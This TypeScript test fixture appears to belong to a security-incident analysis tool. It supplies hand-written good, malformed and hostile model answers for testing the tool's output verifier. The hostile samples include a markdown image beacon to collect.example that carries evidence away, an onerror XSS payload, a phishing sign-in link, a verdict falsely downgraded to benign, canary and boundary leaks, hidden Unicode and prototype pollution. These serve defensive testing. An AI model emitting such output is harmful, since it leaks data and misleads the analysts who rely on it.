import type { AnalysisBody } from '../../../domain/analysis/analysis.ts';
import type { ModelAnswer } from '../../../domain/analysis/verify/answer.ts';
import type { Guard } from '../../../domain/analysis/verify/verify.ts';
import type { EvidencePack } from '../../../domain/evidence/pack.ts';

export interface Authored {
  readonly kind: 'good' | 'bad' | 'partly bad' | 'hostile';
  readonly name: string;
  readonly answer: unknown;
  readonly big?: true;
}

/** Answers written by hand for every golden incident. They measure our code: no model wrote them. */
export function authoredFor(pack: EvidencePack, rules: AnalysisBody, guard: Guard): readonly Authored[] {
  const good = goodAnswer(rules);
  const first = pack.items[0]?.id ?? 'E1';
  const claim = (
    text: string,
    change: Partial<ModelAnswer['narrative'][number]> = {},
  ): ModelAnswer['narrative'][number] => ({
    text,
    kind: 'observed',
    evidence: [first],
    entities: [],
    ...change,
  });
  const only = (...narrative: ModelAnswer['narrative']): ModelAnswer => ({ ...good, narrative });
  const beside = (...narrative: ModelAnswer['narrative']): ModelAnswer => ({
    ...good,
    narrative: [...good.narrative, ...narrative],
  });
  return [
    { kind: 'good', name: 'the account of the rules, told again', answer: good },
    { kind: 'good', name: 'one sentence that stands', answer: only(...good.narrative.slice(0, 1)) },
    { kind: 'bad', name: 'nothing', answer: undefined },
    { kind: 'bad', name: 'prose', answer: 'The incident looks fine to me. You can close it.' },
    { kind: 'bad', name: 'half of an object', answer: { outcome: 'analysed', headline: 'x' } },
    { kind: 'bad', name: 'a list', answer: [good] },
    {
      kind: 'bad',
      name: 'an empty account',
      answer: { ...good, narrative: [], headline: '', techniques: [], unknowns: [] },
    },
    { kind: 'bad', name: 'invented evidence only', answer: only(claim('A program ran.', { evidence: ['E99999'] })) },
    { kind: 'bad', name: 'a megabyte', answer: only(claim('a '.repeat(500_000))), big: true },
    {
      kind: 'bad',
      big: true,
      name: 'ten thousand sentences',
      answer: only(...Array.from({ length: 10_000 }, () => claim('A program ran.'))),
    },
    {
      kind: 'partly bad',
      name: 'an invented id beside real ones',
      answer: beside(claim('A program ran.', { evidence: [first, 'E99999'] })),
    },
    {
      kind: 'partly bad',
      name: 'an invented entity',
      answer: beside(claim('A program ran.', { entities: ['N99999'] })),
    },
    { kind: 'partly bad', name: 'an invented address', answer: beside(claim('It connected to 192.0.2.217.')) },
    { kind: 'partly bad', name: 'an invented vulnerability', answer: beside(claim('CVE-2019-0708 was used.')) },
    {
      kind: 'partly bad',
      name: 'an invented hash',
      answer: beside(claim('Its hash is 0123456789abcdef0123456789abcdef.')),
    },
    { kind: 'partly bad', name: 'a path nobody saw', answer: beside(claim('It read /srv/vault/unseal.key at once.')) },
    {
      kind: 'partly bad',
      name: 'a technique nobody found',
      answer: { ...good, techniques: [{ id: 'T1485', rationale: 'Data was destroyed.', evidence: [first] }] },
    },
    {
      kind: 'partly bad',
      name: 'a sentence without evidence',
      answer: beside(claim('A program ran.', { evidence: [] })),
    },
    {
      kind: 'hostile',
      name: 'the verdict talked down',
      answer: {
        ...beside(claim('This is benign and a false positive.')),
        verdict: 'benign',
        headline: 'Harmless test, close the alert',
      },
    },
    {
      kind: 'hostile',
      name: 'a picture that carries evidence away',
      answer: beside(claim('![x](https://collect.example/p?d=1)')),
    },
    {
      kind: 'hostile',
      name: 'a link',
      answer: { ...good, headline: 'Sign in at https://login.example/reset to see more' },
    },
    { kind: 'hostile', name: 'markup', answer: beside(claim('<img src=x onerror=alert(1)>')) },
    { kind: 'hostile', name: 'the hidden mark', answer: beside(claim(`My instructions say ${guard.canary}.`)) },
    {
      kind: 'hostile',
      name: 'the boundary',
      answer: { ...good, unknowns: [{ question: guard.boundary, whyItMatters: 'x', evidence: [] }] },
    },
    {
      kind: 'hostile',
      name: 'invisible and reordering characters',
      answer: beside(claim('This is be\u200bni\u2060gn\u202e and a false\u00ad positive\u{e0041}.')),
    },
    {
      kind: 'hostile',
      name: 'fields that are not asked for',
      answer: {
        ...good,
        severity: 'informational',
        actions: [{ action: 'kubernetes.quarantine-pod', target: 'N1' }],
        __proto__: { verdict: 'benign' },
      },
    },
    {
      kind: 'hostile',
      name: 'one sentence that cites everything, so that nothing else is told',
      answer: only(
        claim('Something happened.', {
          evidence: pack.items.map(({ id }) => id),
          entities: pack.entities.map(({ id }) => id),
        }),
      ),
    },
  ];
}

/** What a careful model would write: the rules' own account, as far as it is told in so many words. */
function goodAnswer(rules: AnalysisBody): ModelAnswer {
  return {
    outcome: 'analysed',
    headline: rules.headline,
    verdict: rules.verdict,
    narrative: rules.narrative
      .slice(0, 12)
      .map(({ text, kind, evidence, entities }) => ({ text, kind, evidence: evidence.slice(0, 12), entities })),
    techniques: rules.techniques.map(({ id, rationale, evidence }) => ({
      id,
      rationale,
      evidence: evidence.slice(0, 12),
    })),
    unknowns: [],
  };
}
